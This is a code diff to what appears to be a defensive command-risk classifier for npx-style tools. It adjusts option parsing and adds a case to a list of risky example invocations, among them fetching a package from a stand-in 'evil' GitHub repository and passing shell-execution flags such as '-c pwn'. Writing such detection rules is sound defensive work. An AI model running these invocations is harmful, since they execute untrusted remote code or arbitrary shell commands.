@@ -116,7 +116,12 @@ _NPM: Final = Program(
 _NPX: Final = Program(
     names="npx bunx pnpx",
     style=Style.POSIX,
-    valued="--cache --registry -w --workspace --npm --node-arg",
+    valued="--cache --registry -w --workspace --loglevel",
+    flags=(
+        "-y --yes --no --no-install -q --quiet --silent -s --ignore-existing "
+        "--prefer-online --prefer-offline --offline --verbose --bun --version -v "
+        "--help -h"
+    ),
     risks=(
         *_NPM_RISKS,
         Risk(
@@ -148,6 +153,7 @@ _NPX: Final = Program(
         "npx github:evil/evil",
         "npx --shell pwn -c ls",
         "npx -p ../evil x",
+        "npx --unknown x -c pwn",
         "npx",
     ),
 )
